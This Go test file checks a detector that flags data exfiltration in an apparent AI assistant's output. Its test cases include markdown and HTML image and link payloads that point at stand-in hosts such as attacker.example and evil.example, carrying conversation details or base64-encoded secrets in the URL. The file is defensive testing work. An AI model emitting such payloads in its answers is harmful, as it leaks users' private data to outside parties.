package detect

import (
	"context"
	"testing"

	"github.com/wardenhq/warden/internal/scan"
)

func TestExfil(t *testing.T) {
	d := &Exfil{Allow: []string{"contoso.com"}}
	tests := []struct {
		name, give string
		want       float64 // confidence of the finding; 0 for none
	}{
		{"image with the conversation in its query", "Done! ![loading](https://attacker.example/log.png?d=the+user+asked+about+their+salary+of+85000) ", 0.9},
		{"image with a base64 path", "![x](https://cdn.evil.example/aGVsbG8gd29ybGQgdGhpcyBpcyBzZWNyZXQgZGF0YQ/p.png)", 0.9},
		{"html image", `<img src="https://evil.example/i?q=c2VjcmV0X2tleV9ub3dfaW5fdGhlX3VybA">`, 0.9},
		{"link with data", "[click here](https://evil.example/r?session=3f9a8b7c6d5e4f3a2b1c0d9e8f7a6b5c)", 0.65},
		{"image from an allowed domain", "![chart](https://img.contoso.com/c.png?series=revenue-by-quarter-2026-and-forecast)", 0},
		{"ordinary docs link", "See [the docs](https://go.dev/doc/effective_go#names).", 0},
		{"a search link", "[search](https://www.google.com/search?q=go+generics)", 0},
		{"a badge", "![build](https://img.shields.io/badge/build-passing-green?style=flat)", 0},
		{"a video", "[watch](https://www.youtube.com/watch?v=dQw4w9WgXcQ)", 0},
		{"no link", "The capital of France is Paris.", 0},
	}
	for _, tt := range tests {
		fs, err := d.Detect(context.Background(), &scan.Input{Parts: []scan.Part{{Role: scan.RoleAssistant, Text: tt.give}}})
		if err != nil {
			t.Fatal(err)
		}
		got := 0.0
		for _, f := range fs {
			got = max(got, f.Confidence)
		}
		if got != tt.want {
			t.Errorf("%s: confidence %v (%+v), want %v", tt.name, got, fs, tt.want)
		}
	}
	// A user's or a document's links are not the model's answer.
	fs, _ := d.Detect(context.Background(), &scan.Input{Parts: []scan.Part{{Role: scan.RoleUser, Text: tests[0].give}}})
	if len(fs) != 0 {
		t.Errorf("user text: %+v, want nothing", fs)
	}
}
